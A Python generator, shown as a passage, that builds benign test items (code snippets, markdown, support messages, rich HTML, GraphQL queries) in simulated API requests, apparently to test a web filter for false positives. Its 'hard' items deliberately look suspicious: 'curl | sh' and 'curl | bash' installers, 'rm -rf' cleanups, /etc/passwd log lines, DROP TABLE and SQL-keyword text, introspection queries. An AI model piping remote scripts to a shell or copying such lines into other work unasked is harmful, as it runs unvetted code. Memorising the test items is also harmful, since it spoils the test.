            'type %s struct {\n\tID        int64     `json:"id"`\n\tName      string    `json:"name"`\n\tCreatedAt time.Time `json:"created_at"`\n}\n'
            % nm,
        ),
        (
            "rs",
            "enum Shape {\n    Circle(f64),\n    Square(f64),\n}\n\nfn area(s: &Shape) -> f64 {\n    match s {\n        Shape::Circle(r) => std::f64::consts::PI * r * r,\n        Shape::Square(a) => a * a,\n    }\n}\n// %s v%d\n"
            % (fn, n),
        ),
        (
            "css",
            ".grid-%s {\n  display: grid;\n  grid-template-columns: repeat(auto-fill, minmax(%dpx, 1fr));\n  gap: 1rem;\n}\n"
            % (fn, n * 10),
        ),
        (
            "java",
            "public record %s(String id, BigDecimal amount, Instant createdAt) {\n    public %s {\n        Objects.requireNonNull(id);\n    }\n}\n"
            % (nm, nm),
        ),
        (
            "kt",
            'data class %s(val id: Long, val title: String, val tags: List<String> = emptyList())\n\nfun main() {\n    println(%s(%d, "hello"))\n}\n'
            % (nm, nm, n),
        ),
        (
            "ts",
            "interface %s {\n  id: string;\n  total: number;\n}\n\nexport const sum = (xs: %s[]): number => xs.reduce((acc, x) => acc + x.total, 0);\n"
            % (nm, nm),
        ),
        (
            "py",
            "from dataclasses import dataclass, field\n\n\n@dataclass\nclass %s:\n    name: str\n    qty: int = %d\n    tags: list[str] = field(default_factory=list)\n"
            % (nm, n),
        ),
        (
            "c",
            '#include <stdio.h>\n\nint sum(const int *xs, size_t n) {\n    int s = 0;\n    for (size_t i = 0; i < n; i++) s += xs[i];\n    return s;\n}\n\nint main(void) { int a[] = {1, 2, %d}; printf("%%d\\n", sum(a, 3)); }\n'
            % n,
        ),
        (
            "rb",
            '%s = %%w[apple banana cherry]\n%s.each_with_index do |fruit, i|\n  puts "#{i + 1}. #{fruit}"\nend\n'
            % (fn, fn),
        ),
        (
            "swift",
            'struct %s: Codable {\n    let id: UUID\n    var title: String\n    var done = false\n}\n\nlet items = (1...%d).map { %s(id: UUID(), title: "Task \\($0)") }\n'
            % (nm, n, nm),
        ),
        (
            "hs",
            "quicksort :: Ord a => [a] -> [a]\nquicksort [] = []\nquicksort (p:xs) = quicksort [x | x <- xs, x < p] ++ [p] ++ quicksort [x | x <- xs, x >= p]\n-- %s %d\n"
            % (fn, n),
        ),
        ("ex", '"%s.csv"\n|> File.stream!()\n|> Stream.map(&String.trim/1)\n|> Enum.take(%d)\n' % (fn, n)),
        ("lua", "local %s = { width = %d, height = 48 }\nfor k, v in pairs(%s) do\n  print(k, v)\nend\n" % (fn, n, fn)),
        (
            "r",
            "library(dplyr)\n%s %%>%%\n  group_by(region) %%>%%\n  summarise(total = sum(revenue), n = n()) %%>%%\n  arrange(desc(total)) %%>%%\n  head(%d)\n"
            % (fn, n),
        ),
    ]
    return c[k % len(c)]


def code_hard(k, n, nm):
    fn = nm.lower()
    c = [
        (
            "sql",
            "CREATE TABLE %s (\n  id bigserial PRIMARY KEY,\n  email text NOT NULL UNIQUE,\n  created_at timestamptz DEFAULT now()\n);\nDROP TABLE IF EXISTS legacy_sessions;\n"
            % fn,
        ),
        (
            "sql",
            "SELECT id, 'order' AS kind FROM orders WHERE created_at > now() - interval '%d days'\nUNION ALL\nSELECT id, 'refund' FROM refunds WHERE amount > 0\nORDER BY id DESC LIMIT 50;\n"
            % n,
        ),
        (
            "sh",
            "#!/usr/bin/env bash\nset -euo pipefail\nrm -rf dist && npm run build\nrsync -az --delete dist/ deploy@web-%d.internal:/var/www/%s/\n"
            % (n, fn),
        ),
        (
            "dockerfile",
            'FROM debian:bookworm-slim\nRUN apt-get update && apt-get install -y curl ca-certificates \\\n && curl -fsSL https://deb.nodesource.com/setup_22.x | bash - \\\n && apt-get install -y nodejs && rm -rf /var/lib/apt/lists/*\nWORKDIR /app\nCOPY . .\nCMD ["node", "server.js"]\n# %s\n'
            % fn,
        ),
        (
            "php",
            "<?php\n$q = $_GET['q'] ?? '';\necho '<p>Results for ' . htmlspecialchars($q, ENT_QUOTES, 'UTF-8') . '</p>';\n// page size %d\n"
            % n,
        ),
        (
            "js",
            "const banner = document.getElementById('consent-%s');\nif (!document.cookie.includes('consent=1')) {\n  banner.innerHTML = '<p>We use cookies. <button id=\"ok\">OK</button></p>';\n}\n"
            % fn,
        ),
        (
            "py",
            'import subprocess\n\nsha = subprocess.run(["git", "rev-parse", "HEAD"], capture_output=True, text=True, check=True).stdout.strip()\nprint(f"build {sha[:%d]}")\n'
            % (n % 12 + 6),
        ),
        (
            "py",
            'import ast\n\n\ndef parse_literal(s):\n    # safer than eval()\n    return ast.literal_eval(s)\n\nprint(parse_literal("[1, 2, %d]"))\n'
            % n,
        ),
        (
            "yaml",
            "name: release-%s\non:\n  push:\n    tags: ['v*']\njobs:\n  publish:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: |\n          npm ci\n          npm publish --access public\n        env:\n          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n"
            % fn,
        ),
        (
            "html",
            "<ul>\n{%% for item in %s %%}\n  <li>{{ item.name|e }} &ndash; {{ item.price }}</li>\n{%% endfor %%}\n</ul>\n"
            % fn,
        ),
        (
            "makefile",
            'clean:\n\trm -rf build/ dist/ *.egg-info\n\ntest:\n\tpytest -q -k "not slow" --maxfail=%d\n' % (n % 5 + 1),
        ),
        (
            "ps1",
            "Get-ChildItem -Path C:\\Temp\\%s -Recurse -Filter *.log |\n  Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-%d) } |\n  Remove-Item -Force\n"
            % (fn, n),
        ),
        (
            "nginx",
            "location ~ \\.php$ {\n    include fastcgi_params;\n    fastcgi_pass unix:/run/php/php8.3-fpm.sock;\n    fastcgi_param SCRIPT_FILENAME $document_root$fastcgi_script_name;\n}\n# %s\n"
            % fn,
        ),
        (
            "jsx",
            'export function %s({ html }) {\n  // html is sanitised server-side with DOMPurify\n  return <div className="prose" dangerouslySetInnerHTML={{ __html: html }} />;\n}\n'
            % nm,
        ),
        (
            "js",
            "app.get('/api/products', async (req, res) => {\n  const q = `%%${req.query.q ?? ''}%%`;\n  const { rows } = await db.query('SELECT id, name FROM products WHERE name ILIKE $1 LIMIT %d', [q]);\n  res.json(rows);\n});\n"
            % n,
        ),
        (
            "java",
            'try (PreparedStatement ps = conn.prepareStatement("SELECT id, email FROM users WHERE id = ?")) {\n    ps.setLong(1, %sId);\n    ResultSet rs = ps.executeQuery();\n}\n'
            % fn,
        ),
        (
            "xml",
            '<Configuration status="WARN">\n  <Appenders>\n    <RollingFile name="file" fileName="${sys:app.home}/logs/%s.log" filePattern="${sys:app.home}/logs/%s-%%d{yyyy-MM-dd}.log.gz">\n      <PatternLayout pattern="%%d %%p %%c{1.} [%%t] %%m%%n"/>\n    </RollingFile>\n  </Appenders>\n</Configuration>\n'
            % (fn, fn),
        ),
        (
            "html",
            '<!DOCTYPE html>\n<html lang="en">\n<head><meta charset="utf-8"><title>%s</title></head>\n<body>\n  <div id="root"></div>\n  <script src="/assets/app.%s.js" defer></script>\n</body>\n</html>\n'
            % (nm, hexs(8)),
        ),
        ("sh", "find /var/log/%s -name '*.log' -mtime +%d -exec rm {} \\;\n" % (fn, n)),
        (
            "sh",
            "sed -i 's/^#\\?PermitRootLogin.*/PermitRootLogin no/' /etc/ssh/sshd_config && systemctl reload sshd  # %s\n"
            % fn,
        ),
        ("cron", "0 3 * * * /usr/local/bin/%s-backup.sh >/var/log/backup.log 2>&1\n" % fn),
        (
            "yaml",
            "- name: Show OS release\n  hosts: %s\n  tasks:\n    - name: read file\n      ansible.builtin.shell: cat /etc/os-release\n      register: os\n"
            % fn,
        ),
        (
            "tf",
            'resource "aws_instance" "%s" {\n  ami           = "ami-0abcdef1234567890"\n  instance_type = "t3.micro"\n  user_data     = <<-EOF\n    #!/bin/bash\n    yum install -y nginx && systemctl enable --now nginx\n  EOF\n}\n'
            % fn,
        ),
        (
            "js",
            "fetch('/api/v1/me', { credentials: 'include' })\n  .then((r) => r.json())\n  .then((me) => { document.title = `${me.name} | Dashboard`; });\n// %s\n"
            % fn,
        ),
        (
            "apache",
            "RewriteEngine On\nRewriteCond %%{REQUEST_FILENAME} !-f\nRewriteRule ^(.*)$ index.php?q=$1 [L,QSA]\n# %s\n"
            % fn,
        ),
        (
            "py",
            "import os\n\nBASE = os.path.dirname(os.path.abspath(__file__))\nwith open(os.path.join(BASE, '..', 'data', '%s.csv')) as fh:\n    rows = fh.read().splitlines()[:%d]\n"
            % (fn, n),
        ),
    ]
    return c[k % len(c)]


CODE_NAMES = [
    "Invoice",
    "Customer",
    "Shipment",
    "Report",
    "Widget",
    "Ticket",
    "Profile",
    "Cart",
    "Metric",
    "Booking",
    "Sensor",
    "Playlist",
]
CODE_EXT = {
    "py": "py",
    "js": "js",
    "go": "go",
    "rs": "rs",
    "css": "css",
    "java": "java",
    "kt": "kt",
    "ts": "ts",
    "c": "c",
    "rb": "rb",
    "swift": "swift",
    "hs": "hs",
    "ex": "exs",
    "lua": "lua",
    "r": "R",
    "sql": "sql",
    "sh": "sh",
    "dockerfile": "Dockerfile",
    "php": "php",
    "yaml": "yml",
    "html": "html",
    "makefile": "Makefile",
    "ps1": "ps1",
    "nginx": "conf",
    "jsx": "jsx",
    "xml": "xml",
    "cron": "crontab",
    "tf": "tf",
    "apache": "htaccess",
}


def code_item(lang, src, h, i):
    fname = "snippet.%s" % CODE_EXT[lang] if CODE_EXT[lang][0].islower() else CODE_EXT[lang]
    r = i % 7
    if r == 0:
        return I(
            "j",
            src,
            h,
            ctx=("POST", "/api/v1/gists"),
            doc={"description": "%s helper" % lang, "public": chance(0.5), "files": {fname: {"content": SENT}}},
        )
    if r == 1:
        return I(
            "j",
            src,
            h,
            ctx=("POST", "/api/v4/projects/%d/snippets" % R.randint(100, 999)),
            doc={"title": "%s example" % lang, "file_name": fname, "content": SENT, "visibility": "private"},
        )
    if r == 2:
        return I(
            "j",
            src,
            h,
            ctx=("PATCH", "/api/v1/notebooks/nb_%s/cells/%d" % (alnum(8), R.randint(1, 30))),
            doc={"cell_type": "code", "source": SENT, "metadata": {"collapsed": False}},
        )
    if r == 3:
        return I(
            "j",
            src,
            h,
            ctx=("POST", "/api/v2/pastes"),
            doc={"title": "", "syntax": lang, "expiry": pick(["1d", "1w", "never"]), "text": SENT},
        )
    if r == 4:
        return I(
            "j",
            src,
            h,
            ctx=("POST", "/api/v1/reviews/rv_%s/comments" % alnum(8)),
            doc={"path": "src/%s" % fname, "line": R.randint(3, 300), "suggestion": SENT},
        )
    if r == 5:
        return I(
            "f",
            src,
            h,
            ctx=(
                "POST",
                "/api/api_post.php",
                "api_paste_code",
                [
                    ("api_dev_key", hexs(32)),
                    ("api_option", "paste"),
                    ("api_paste_format", lang),
                    ("api_paste_private", "1"),
                ],
            ),
        )
    return I(
        "m",
        src,
        h,
        ctx=("POST", "/api/v1/snippets/upload", "file", "content", [("language", lang)]),
        fn=fname,
        mpct="text/plain",
    )


def gen_code():
    soft, seen = [], set()
    k = 0
    while len(soft) < N_SOFT:
        lang, src = code_soft(k, R.randint(5, 60), pick(CODE_NAMES))
        k += 1
        if src not in seen:
            seen.add(src)
            soft.append((lang, src))
    hard = []
    k = 0
    while len(hard) < N_HARD:
        lang, src = code_hard(k, R.randint(5, 60), pick(CODE_NAMES))
        k += 1
        if src not in seen:
            seen.add(src)
            hard.append((lang, src))
    return [code_item(l, s_, False, i) for i, (l, s_) in enumerate(soft)] + [
        code_item(l, s_, True, i) for i, (l, s_) in enumerate(hard)
    ]


ITEMS["benign_code"] = gen_code()


# ---------------------------------------------------------------- benign_markdown
def md_soft_block():
    k = R.randrange(9)
    if k == 0:
        return "## %s" % pick(
            [
                "Summary",
                "Steps to reproduce",
                "Expected behaviour",
                "Context",
                "Changelog",
                "Next steps",
                "Open questions",
            ]
        )
    if k == 1:
        return "%s %s." % (
            pick(["This PR", "The migration", "Our onboarding flow", "The nightly job", "The new pricing page"]),
            pick(
                [
                    "adds pagination to the orders list",
                    "fixes the timezone offset in reports",
                    "moves assets to the CDN",
                    "reduces cold start time by ~%d%%" % R.randint(10, 60),
                    "is now behind the `fast-search` flag",
                ]
            ),
        )
    if k == 2:
        return "\n".join(
            "- %s"
            % pick(
                [
                    "Update README",
                    "Bump `axios` to 1.7.7",
                    "Add unit tests",
                    "Remove dead code",
                    "Rename `userId` to `accountId`",
                    "Document env vars",
                ]
            )
            for _ in range(R.randint(2, 4))
        )
    if k == 3:
        return "\n".join(
            "%d. %s"
            % (
                i + 1,
                pick(["Open **Settings**", "Click *Export*", "Choose CSV", "Wait for the email", "Reload the page"]),
            )
            for i in range(R.randint(2, 4))
        )
    if k == 4:
        return "See [the design doc](https://docs.%s/design/%s) and [ticket #%d](https://tracker.%s/browse/OPS-%d)." % (
            pick(["kindlepath.io", "wrenlake.ai"]),
            hexs(6),
            R.randint(100, 999),
            pick(["quillmetrics.net", "lumenhaus.eu"]),
            R.randint(100, 9999),
        )
    if k == 5:
        return (
            "| Metric | Before | After |\n|---|---:|---:|\n| p95 latency | %d ms | %d ms |\n| error rate | %.1f%% | %.1f%% |"
            % (R.randint(300, 900), R.randint(80, 290), R.uniform(1, 5), R.uniform(0, 1))
        )
    if k == 6:
        return "> %s" % pick(
            [
                "Works on my machine.",
                "Ship it when CI is green.",
                "Let's revisit after the holidays.",
                "Measure twice, cut once.",
            ]
        )
    if k == 7:
        return "Run `npm install` and then `npm run dev`; the app starts on port %d." % pick([3000, 5173, 8080])
    return "Thanks @%s for the review! :tada:" % pick(["ana", "liam-dev", "priya.k", "tomas"])


def md_hard_block():
    k = R.randrange(12)
    if k == 0:
        return (
            "```sql\nSELECT u.id, u.email FROM users u\nLEFT JOIN orders o ON o.user_id = u.id\nWHERE o.id IS NULL;\n-- %d rows expected\n```"
            % R.randint(1, 500)
        )
    if k == 1:
        return "```bash\ncurl -fsSL https://get.%s/install.sh | sh\nrm -rf ~/.cache/%s\n```" % (
            pick(["docker.com", "pnpm.io"]),
            pick(["pip", "yarn", "go-build"]),
        )
    if k == 2:
        return '```html\n<script src="https://cdn.%s/widget.js" async></script>\n<div id="chat"></div>\n```' % pick(
            ["velvetpine.com", "mintbarrow.io"]
        )
    if k == 3:
        return (
            "<details>\n<summary>Stack trace</summary>\n\n```\nTraceback (most recent call last):\n  File \"app.py\", line %d, in <module>\n    eval(expr)\nNameError: name 'foo' is not defined\n```\n</details>"
            % R.randint(10, 400)
        )
    if k == 4:
        return "Use `{{ user.name }}` in the template, not `{{ user.name|safe }}`."
    if k == 5:
        return (
            "<!-- TODO: remove after %s -->\nPress <kbd>Ctrl</kbd> + <kbd>Shift</kbd> + <kbd>R</kbd> to hard-reload."
            % pick(["v5", "the migration", "Q1"])
        )
    if k == 6:
        return '![architecture](https://cdn.%s/img/arch-%s.png "Architecture diagram")' % (
            pick(["quillmetrics.net", "kindlepath.io"]),
            hexs(6),
        )
    if k == 7:
        return "```js\nel.addEventListener('click', () => alert('Saved!'));\ndocument.querySelector('#out').innerHTML = marked.parse(md);\n```"
    if k == 8:
        return (
            "```python\nimport os, subprocess\nsubprocess.run(['pg_dump', os.environ['DATABASE_URL'], '-f', 'backup-%d.sql'], check=True)\n```"
            % R.randint(1, 99)
        )
    if k == 9:
        return "The log line was `GET /etc/passwd 404` -- just a scanner, nothing to do. Also `DROP TABLE` is not in any migration."
    if k == 10:
        return "```yaml\nenv:\n  API_URL: ${API_URL:-http://localhost:%d}\n```" % pick([3000, 8080, 9000])
    return "```php\n<?php echo htmlspecialchars($title); ?>\n```"


def gen_markdown():
    def doc(hard):
        blocks = [md_soft_block() for _ in range(R.randint(2, 4))]
        if hard:
            for _ in range(R.randint(1, 2)):
                blocks.insert(R.randrange(len(blocks) + 1), md_hard_block())
        return "\n\n".join(blocks) + "\n"

    soft, hard, seen = [], [], set()
    while len(soft) < N_SOFT:
        d = doc(False)
        if d not in seen:
            seen.add(d)
            soft.append(d)
    while len(hard) < N_HARD:
        d = doc(True)
        if d not in seen:
            seen.add(d)
            hard.append(d)

    def plan(i, t, h):
        r = i % 6
        if r == 0:
            return I(
                "j",
                t,
                h,
                ctx=("POST", "/api/v1/repos/acme/web/issues/%d/comments" % R.randint(10, 3000)),
                doc={"body": SENT},
            )
        if r == 1:
            return I(
                "j",
                t,
                h,
                ctx=("PUT", "/api/v1/wiki/pages/%s" % pick(["onboarding", "runbook-db", "release-process", "faq"])),
                doc={"title": "Wiki page", "content": SENT, "format": "markdown", "message": "Update page"},
            )
        if r == 2:
            return I(
                "j",
                t,
                h,
                ctx=("PATCH", "/api/v1/repos/acme/api/pulls/%d" % R.randint(100, 900)),
                doc={"title": "Improve reports", "body": SENT},
            )
        if r == 3:
            return I("j", t, h, ctx=("POST", "/posts.json"), doc={"topic_id": R.randint(1000, 9000), "raw": SENT})
        if r == 4:
            return I(
                "f",
                t,
                h,
                ctx=("POST", "/forum/t/%d/reply" % R.randint(100, 999), "raw", [("authenticity_token", alnum(43))]),
                kind="browser",
            )
        return I(
            "m",
            t,
            h,
            ctx=("POST", "/api/v1/docs/import", "file", "content", [("space", "ENG")]),
            fn="README.md",
            mpct="text/markdown",
        )

    return spread(soft, hard, plan)


ITEMS["benign_markdown"] = gen_markdown()

# ---------------------------------------------------------------- benign_prose
PROSE_SOFT_PARTS = (
    ["Hi team,", "Hello,", "Hey!", "Good morning,", "Hi there,", ""],
    [
        "my order arrived two days late",
        "the app logs me out every few minutes",
        "I can't find the invoice for last month",
        "the new dashboard looks great",
        "my discount code isn't applied at checkout",
        "the export button is greyed out",
        "I was charged twice for the same subscription",
        "the mobile app crashes when I open settings",
        "the size guide was spot on",
        "delivery was quick and the packaging was lovely",
        "I'd like to upgrade to the annual plan",
        "our team can't see the shared folder anymore",
    ],
    [
        "Could you take a look?",
        "Thanks in advance.",
        "Any idea what's going on?",
        "Really happy with it.",
        "Cheers.",
        "Let me know if you need screenshots.",
        "Best regards, %s" % "Ana",
        "Thanks for the quick help last time!",
    ],
)
PROSE_HARD = [
    "After the update the export fails with: ERROR 1064 (42000): You have an error in your SQL syntax; check the manual near 'ORDER BY created_at' at line 1. Can you look?",
    "Our admin ran `rm -rf node_modules && npm install` and the build works again, thanks.",
    "I can't select and drop files onto the upload area in Safari 17.",
    "The union rep said the new schedule starts Monday; please update the roster.",
    "Got a popup alert saying 'Session expired' every 5 minutes.",
    "The script on the checkout page throws TypeError: Cannot read properties of undefined (reading 'map').",
    "Where 1=1 in your docs example confused me - is that required?",
    "I typed <b>bold</b> in my bio and it shows the tags literally.",
    "Error: ENOENT: no such file or directory, open '/etc/app/config.json'",
    "Tried curl -X POST https://api.example.com/v1/tokens -H 'Content-Type: application/json' and got a 401.",
    "Please delete from my account the old card ending 4242.",
    "Steps: 1) select all rows 2) click Delete 3) confirm -- nothing happens.",
    "Java exception: java.lang.NullPointerException at com.shop.Cart.total(Cart.java:88)",
    "My password contains a ' and a ; - is that why login fails?",
    "I love the new dark mode!! 5 stars <3",
    "The docs say to run `cat /etc/os-release` to check the version; mine says Ubuntu 24.04.",
    "Can you drop the 3pm meeting and select a slot on Thursday instead?",
    "The error page just says ${message} instead of an actual message.",
    "Our security scanner flagged <script> tags in the email template, is that expected?",
    "Template shows {{ customer.first_name }} literally in the subject line.",
    "Order #88412: I selected 'Union Jack' but got the plain one -- please exchange.",
    "Why does the CSV start with =SUM( in column A? Excel shows a warning.",
    "Windows says C:\\Users\\Public\\Downloads\\setup.exe is blocked, how do I install?",
    "I pasted ../../shared/logo.png as the path and the preview broke.",
    "The webhook gets a 500: 'Invalid JSON: Unexpected token < in JSON at position 0'.",
    "lol my cat walked on the keyboard and sent ;;;;'''' sorry!",
    "Exec summary: revenue up 12%, churn down; union negotiations ongoing.",
    "When I search for O'Reilly books I get zero results.",
    "Log shows 'OR' and 'AND' filters being ignored when combined.",
    "I can see <iframe> code in the embed dialog but the video doesn't load.",
    "Is there a way to run the report via the API instead of clicking Export every time?",
    "Warning: mysqli_connect(): (HY000/2002): Connection refused in /var/www/html/db.php on line 12",
    "Alert: your card ending 1881 was declined -- that's what the email said, is it legit?",
    "The 'sleep' tracking feature shows 0h even though I wore the watch all night.",
    "Hey, `SELECT` queries in the SQL console time out after 30s, can we raise that?",
    "Please union the two accounts (jo@example.com & jo.b@example.com) into one.",
    "Is it safe to share my API key in the Authorization: Bearer header over https?",
    "Fix: set display: none; on .banner and the layout is fine again.",
    "Got 'Uncaught SyntaxError: Unexpected token '<'' after deploying the new build.",
    "Your docs mention javascript:void(0) links - are those still recommended?",
]


def gen_prose():
    soft, seen = [], set()
    while len(soft) < N_SOFT:
        a, b, c = pick(PROSE_SOFT_PARTS[0]), pick(PROSE_SOFT_PARTS[1]), pick(PROSE_SOFT_PARTS[2])
        t = (" ".join(x for x in (a, b[0].upper() + b[1:] + ".", c) if x)).strip()
        if t not in seen:
            seen.add(t)
            soft.append(t)
    hard = sample(PROSE_HARD, N_HARD)

    def plan(i, t, h):
        r = i % 6
        if r in (0, 1):
            return I(
                "j",
                t,
                h,
                ctx=("POST", "/api/v1/chat/messages"),
                doc={"channel_id": "ch_" + alnum(10), "text": SENT, "client_msg_id": uuid4()},
            )
        if r == 2:
            return I(
                "j",
                t,
                h,
                ctx=("POST", "/api/v2/tickets"),
                doc={"ticket": {"subject": "Help needed", "comment": {"body": SENT}, "priority": "normal"}},
            )
        if r == 3:
            return I(
                "f",
                t,
                h,
                ctx=(
                    "POST",
                    "/reviews/%d" % R.randint(1000, 9999),
                    "review",
                    [("rating", str(R.randint(1, 5))), ("name", pick(FIRST))],
                ),
                kind="browser",
            )
        if r == 4:
            return I(
                "m",
                t,
                h,
                ctx=(
                    "POST",
                    "/api/v1/support/requests",
                    "description",
                    "text",
                    [("email", email_of(person())), ("category", "technical")],
                ),
            )
        return I(
            "j",
            t,
            h,
            ctx=("PUT", "/api/v1/conversations/cv_%s/draft" % alnum(8)),
            doc={"draft": {"text": SENT, "updated_at": iso()}},
        )

    return spread(soft, hard, plan)


ITEMS["benign_prose"] = gen_prose()


# ---------------------------------------------------------------- benign_richtext
def rt_soft_block():
    k = R.randrange(8)
    w = pick(["shipping update", "holiday opening hours", "team offsite", "new feature", "price change", "office move"])
    if k == 0:
        return "<p>Quick note on the <strong>%s</strong>: everything is <em>on track</em>.</p>" % w
    if k == 1:
        return "<h2>%s</h2>" % w.capitalize()
    if k == 2:
        return "<ul>%s</ul>" % "".join(
            "<li>%s</li>" % pick(["Review the draft", "Confirm numbers", "Book the room", "Send invites", "Update FAQ"])
            for _ in range(R.randint(2, 4))
        )
    if k == 3:
        return "<ol>%s</ol>" % "".join(
            "<li>%s</li>" % pick(["Log in", "Open Billing", "Download PDF", "Forward to finance"])
            for _ in range(R.randint(2, 3))
        )
    if k == 4:
        return "<blockquote><p>%s</p></blockquote>" % pick(
            ["Great service, will order again.", "Simple and fast.", "Exactly what we needed."]
        )
    if k == 5:
        return "<p>Line one<br>Line two<br>Regards, %s</p>" % pick(FIRST)
    if k == 6:
        return "<p>&nbsp;</p>"
    return "<p>Meeting moved to <u>%s</u> at %d:00.</p>" % (pick(["Tuesday", "Thursday", "Friday"]), R.randint(9, 17))


def rt_hard_block():
    k = R.randrange(11)
    if k == 0:
        return '<p><a href="https://www.%s/%s" target="_blank" rel="noopener noreferrer">Read more</a></p>' % (
            pick(["velvetpine.com", "fernhollow-press.org"]),
            pick(["blog/winter", "help/returns", "events"]),
        )
    if k == 1:
        return '<p><img src="https://cdn.%s/uploads/%s.jpg" alt="Product photo" width="600" height="400"></p>' % (
            pick(["mintbarrow.io", "lumenhaus.eu"]),
            hexs(10),
        )
    if k == 2:
        return (
            '<p><span style="color: rgb(230, 0, 0);">Important:</span> prices change on <strong>1 January</strong>.</p>'
        )
    if k == 3:
        return (
            '<table style="border-collapse: collapse; width: 100%%;" border="1"><tbody><tr><td style="width: 50%%;">Plan</td>'
            '<td style="width: 50%%;">Price</td></tr><tr><td>Pro</td><td>&euro;%d/mo</td></tr></tbody></table>'
            % R.randint(9, 99)
        )
    if k == 4:
        return (
            '<p><iframe title="YouTube video player" src="https://www.youtube.com/embed/%s" width="560" height="315" frameborder="0" '
            'allow="accelerometer; autoplay; clipboard-write; encrypted-media; gyroscope; picture-in-picture" allowfullscreen="allowfullscreen"></iframe></p>'
            % alnum(11)
        )
    if k == 5:
        return '<pre><code class="language-html">&lt;script src="/js/app.js" defer&gt;&lt;/script&gt;</code></pre>'
    if k == 6:
        return '<p style="text-align: center;"><span style="font-size: 18pt; font-family: Georgia, serif;">Season&#39;s greetings!</span></p>'
    if k == 7:
        return (
            '<figure class="image"><img src="https://images.%s/%s.png" alt="Chart"><figcaption>Revenue by month</figcaption></figure>'
            % (pick(["quillmetrics.net", "kindlepath.io"]), hexs(8))
        )
    if k == 8:
        return (
            '<p>Contact <a href="mailto:%s">our team</a> or call <a href="tel:+442079460958">+44 20 7946 0958</a>.</p>'
            % email_of(person())
        )
    if k == 9:
        return '<p><img src="data:image/png;base64,%s" alt="pasted image"></p>' % b64(b"\x89PNG\r\n\x1a\n" + rbytes(60))
    return (
        '<p class="ql-align-right"><span class="mention" data-index="0" data-denotation-char="@" data-id="%d" data-value="%s">@%s</span> please review.</p>'
        % (R.randint(100, 999), pick(FIRST), pick(FIRST))
    )


def gen_richtext():
    def doc(hard):
        blocks = [rt_soft_block() for _ in range(R.randint(1, 3))]
        if hard:
            for _ in range(R.randint(1, 2)):
                blocks.insert(R.randrange(len(blocks) + 1), rt_hard_block())
        return "".join(blocks)

    soft, hard, seen = [], [], set()
    while len(soft) < N_SOFT:
        d = doc(False)
        if d not in seen:
            seen.add(d)
            soft.append(d)
    while len(hard) < N_HARD:
        d = doc(True)
        if d not in seen:
            seen.add(d)
            hard.append(d)

    def plan(i, t, h):
        r = i % 6
        if r in (0, 1):
            return I(
                "j",
                t,
                h,
                ctx=("PUT", "/api/v1/pages/%s" % pick(["about", "holidays", "pricing", "team"])),
                doc={"title": "Page", "content_html": SENT, "status": "draft"},
            )
        if r == 2:
            return I(
                "j",
                t,
                h,
                ctx=("POST", "/wp-json/wp/v2/posts"),
                doc={"title": "Update", "content": SENT, "status": pick(["draft", "publish"])},
            )
        if r == 3:
            return I(
                "f",
                t,
                h,
                ctx=(
                    "POST",
                    "/wp-admin/post.php",
                    "content",
                    [("action", "editpost"), ("post_ID", str(R.randint(100, 999))), ("_wpnonce", hexs(10))],
                ),
                kind="browser",
            )
        if r == 4:
            return I(
                "m",
                t,
                h,
                ctx=(
                    "POST",
                    "/api/v1/newsletters",
                    "body_html",
                    "text",
                    [("subject", "December update"), ("list_id", "lst_" + alnum(8))],
                ),
            )
        return I(
            "j",
            t,
            h,
            ctx=("PATCH", "/api/v2/tickets/%d" % R.randint(1000, 9999)),
            doc={"ticket": {"comment": {"html_body": SENT, "public": True}}},
        )

    return spread(soft, hard, plan)


ITEMS["benign_richtext"] = gen_richtext()


# ---------------------------------------------------------------- benign_graphql
def gql_soft(k):
    n = pick(["Order", "Customer", "Invoice", "Product", "Ticket", "Project"])
    f = pick(
        ["id status", "id name", "id createdAt updatedAt", "id title owner { id }", "id total { amount currency }"]
    )
    c = [
        (
            "query Get%s($id: ID!) { %s(id: $id) { %s } }" % (n, n.lower(), f),
            {"id": "%s_%s" % (n[:3].lower(), alnum(10))},
        ),
        (
            "query List%ss($first: Int, $after: String) { %ss(first: $first, after: $after) { edges { node { %s } } pageInfo { hasNextPage endCursor } } }"
            % (n, n.lower(), f),
            {"first": pick([10, 20, 50]), "after": None},
        ),
        (
            "mutation Update%s($input: Update%sInput!) { update%s(input: $input) { %s } }" % (n, n, n, f),
            {"input": {"id": alnum(12), "name": pick(PRODUCTS)}},
        ),
        ("query Viewer { viewer { id login email avatarUrl(size: %d) } }" % pick([40, 64, 128]), {}),
        (
            "subscription OnMessage($room: ID!) { messageAdded(roomId: $room) { id text author { name } } }",
            {"room": "room_" + alnum(8)},
        ),
        (
            "mutation AddToCart($sku: String!, $qty: Int!) { addToCart(sku: $sku, quantity: $qty) { cart { id itemCount } } }",
            {"sku": "SKU-%d" % R.randint(1000, 9999), "qty": R.randint(1, 3)},
        ),
        (
            "query Search($term: String!) { search(term: $term, limit: %d) { id title } }" % pick([5, 10, 25]),
            {"term": pick(["winter boots", "desk lamp", "linen"])},
        ),
    ]
    return c[k % len(c)]


GQL_HARD = [
    (
        "query IntrospectionQuery { __schema { queryType { name } mutationType { name } types { kind name fields(includeDeprecated: true) { name args { name type { kind name ofType { kind name } } } } } } }",
        {},
    ),
    ("query { __schema { types { name } } }", {}),
    (
        "query Feed { feed(first: 10) { __typename ... on Post { id title } ... on Event { id startsAt } ... on Ad { id sponsor } } }",
        {},
    ),
    (
        "fragment UserParts on User { id name email }\nquery Team($id: ID!) { team(id: $id) { owner { ...UserParts } members { ...UserParts } } }",
        {"id": "team_42"},
    ),
    (
        'query Orders { orders(where: {_or: [{status: {_eq: "paid"}}, {total: {_gt: 100}}]}, order_by: {created_at: desc}, limit: 20) { id total } }',
        {},
    ),
    ('query Shoes { products(where: {name: {_ilike: "%shoe%"}}) { id name price } }', {}),
    (
        "query Me($withEmail: Boolean!) { me { id name email @include(if: $withEmail) phone @skip(if: true) } }",
        {"withEmail": True},
    ),
    ("query Compare { a: user(id: 1) { name } b: user(id: 2) { name } }", {}),
    ("# fetch the current cart\nquery Cart { cart { id lines { sku qty } } }", {}),
    (
        'query Repos { search(query: "union select language:sql stars:>100", type: REPOSITORY, first: 5) { nodes { ... on Repository { nameWithOwner } } } }',
        {},
    ),
    (
        "mutation Rename($id: ID!, $name: String!) { renameFile(id: $id, name: $name) { id name } }",
        {"id": "fil_8812", "name": "drop table notes.sql"},
    ),
    (
